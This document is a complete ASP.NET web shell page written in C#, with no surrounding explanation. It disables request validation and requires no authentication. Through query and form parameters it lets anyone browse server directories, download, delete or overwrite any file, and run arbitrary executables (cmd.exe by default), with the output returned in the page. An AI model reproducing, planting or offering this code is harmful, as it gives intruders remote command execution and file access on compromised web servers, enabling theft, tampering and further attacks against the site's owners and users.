<%@ Page Language="C#" ValidateRequest="false" %>
<%@ Import Namespace="System.IO" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
string Cur { get { return Request["d"] ?? Server.MapPath("."); } }
protected void Page_Load(object s, EventArgs e) {
    string a = Request["a"];
    if (a == "del") File.Delete(Request["f"]);
    if (a == "edit" && Request.HttpMethod == "POST") File.WriteAllText(Request["f"], Request.Form["body"]);
    if (a == "dl") { Response.ContentType = "application/octet-stream"; Response.WriteFile(Request["f"]); Response.End(); }
    if (a == "run") {
        ProcessStartInfo i = new ProcessStartInfo(Request.Form["exe"] ?? "cmd.exe", Request.Form["arg"]);
        i.RedirectStandardOutput = true; i.UseShellExecute = false; i.WorkingDirectory = Cur;
        Response.Write("<pre>" + Server.HtmlEncode(Process.Start(i).StandardOutput.ReadToEnd()) + "</pre>");
    }
    foreach (string d in Directory.GetDirectories(Cur)) Response.Write("<a href='?d=" + Server.UrlEncode(d) + "'>[" + Path.GetFileName(d) + "]</a><br/>");
    foreach (string f in Directory.GetFiles(Cur)) Response.Write(Path.GetFileName(f) + " <a href='?a=dl&f=" + Server.UrlEncode(f) + "'>dl</a> <a href='?a=del&d=" + Server.UrlEncode(Cur) + "&f=" + Server.UrlEncode(f) + "'>del</a><br/>");
}
</script>
